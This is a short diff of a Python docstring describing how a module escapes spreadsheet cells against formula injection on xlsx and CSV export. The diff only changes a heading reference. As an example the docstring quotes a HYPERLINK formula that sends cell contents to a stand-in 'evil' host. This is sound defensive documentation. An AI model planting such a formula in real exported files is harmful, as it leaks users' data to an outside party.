@@ -1,7 +1,7 @@
 """How one value becomes a spreadsheet cell and back, exactly.
 
-Formula injection (DESIGN §9)
------------------------------
+Formula injection (README.md#data-model)
+----------------------------------------
 A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and some also
 after a leading tab or carriage return (``=HYPERLINK("http://evil/?"&A1, "click")`` sends data away).
 So on **xlsx and CSV export**, a text cell that starts with one of ``= + - @ \\t \\r`` is written with
